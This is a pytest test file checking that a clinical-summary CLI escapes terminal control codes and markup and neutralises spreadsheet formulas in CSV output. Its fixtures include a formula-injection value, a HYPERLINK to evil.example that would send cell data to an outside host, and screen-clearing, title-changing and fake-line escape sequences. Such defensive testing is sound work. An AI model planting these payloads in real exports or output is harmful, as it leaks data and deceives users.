"""User data printed to a terminal or written to CSV cannot act: no escape codes, no markup, no formulas."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from clinsum.cli import app
from clinsum.cli.common import shown
from clinsum.outputs import format_csv, spreadsheet_safe, write_csv

EVIL_SYSTEM = "=HYPERLINK(\"http://evil.example/?\"&A1)\x1b[2J"
EVIL_NOTE_ID = "n1\x1b]0;owned\x07\nFAKE: all good"


def printed(markup: str) -> str:
    """What a terminal receives when rich prints ``markup``."""
    console = Console(file=io.StringIO(), width=300, color_system="truecolor", force_terminal=True)
    console.print(markup, highlight=False, end="")
    return console.file.getvalue()  # type: ignore[attr-defined]


@pytest.mark.parametrize(("text", "visible"), [
    ("clear\x1b[2Jscreen", "clear\\x1b[2Jscreen"),
    ("title\x1b]0;owned\x07!", "title\\x1b]0;owned\\x07!"),
    ("line\nFAKE", "line\\nFAKE"),
    ("bell\x07 del\x7f c1\x9b", "bell\\x07 del\\x7f c1\\x9b"),
    ("rtl\u202eevil", "rtl\\u202eevil"),
    ("[red]markup[/red] pip install 'clinsum[vertex]'", "[red]markup[/red] pip install 'clinsum[vertex]'"),
    ("lone \ud800", "lone \\ud800"),
    ("café 中文 — ok", "café 中文 — ok"),
])
def test_shown_makes_control_characters_and_markup_visible(text: str, visible: str) -> None:
    assert printed(shown(text)) == visible


def test_shown_keeps_the_lines_of_a_multiline_message_only_when_asked() -> None:
    assert printed(shown("a\n  b c", multiline=True)) == "a\n  b c"
    assert printed(shown("a\x1b[1Ab", multiline=True)) == "a\\x1b[1Ab"


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"), ("-0.5", "-0.5"), ("+3e2", "+3e2"), ("plain", "plain"), ("a=b", "a=b"),
])
def test_text_cells_that_a_spreadsheet_would_run_are_neutralised(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_write_csv_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["system", "mean", "ci_low"], [[EVIL_SYSTEM, -0.5, -1.25], ["ok", 0.25, None]])
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1] == ["'" + EVIL_SYSTEM, "-0.5", "-1.25"]
    assert rows[2] == ["ok", "0.25", ""]
    assert format_csv(["system", "mean"], [["@x", -0.5]]) == "system,mean\n'@x,-0.5\n"


def test_score_output_and_csv_are_safe_with_hostile_ids(tmp_path: Path) -> None:
    notes = tmp_path / "notes.jsonl"
    notes.write_text(json.dumps({"id": EVIL_NOTE_ID, "text": "Denies chest pain. Plan: ECG."}) + "\n")
    summaries = tmp_path / "summaries.jsonl"
    summaries.write_text(json.dumps({"note_id": EVIL_NOTE_ID, "system": EVIL_SYSTEM, "text": "No chest pain."})
                         + "\n")
    db = tmp_path / "c.db"
    result = CliRunner().invoke(app, ["score", str(summaries), "--notes", str(notes), "--metric", "length",
                                      "--db", str(db), "--out", str(tmp_path / "out")], env={"COLUMNS": "300"})
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b" in result.stdout  # the system name is shown, escaped, not obeyed
    board = list(csv.reader((tmp_path / "out" / "leaderboard.csv").open(encoding="utf-8")))
    assert {row[0] for row in board[1:]} == {"'" + EVIL_SYSTEM}
    runs = CliRunner().invoke(app, ["runs", "--db", str(db)], env={"COLUMNS": "300"})
    assert runs.exit_code == 0 and "\x1b" not in runs.output
    shown_csv = CliRunner().invoke(app, ["show", _latest(db), "--db", str(db), "--format", "csv"])
    assert shown_csv.exit_code == 0, shown_csv.output
    assert shown_csv.stdout.splitlines()[1].startswith("\"'=HYPERLINK")


def test_an_error_naming_hostile_data_is_escaped(tmp_path: Path) -> None:
    notes = tmp_path / "notes.jsonl"
    notes.write_text('{"id": "a\\u001b[2J", "text": ""}\n')
    result = CliRunner().invoke(app, ["score", str(notes), "--notes", str(notes), "--db", str(tmp_path / "c.db")])
    assert result.exit_code != 0
    assert "\x1b" not in result.output and "text is empty" in result.output


def _latest(db: Path) -> str:
    from clinsum.store import Store

    run_id = Store.open(db).latest_run_id()
    assert run_id is not None
    return run_id
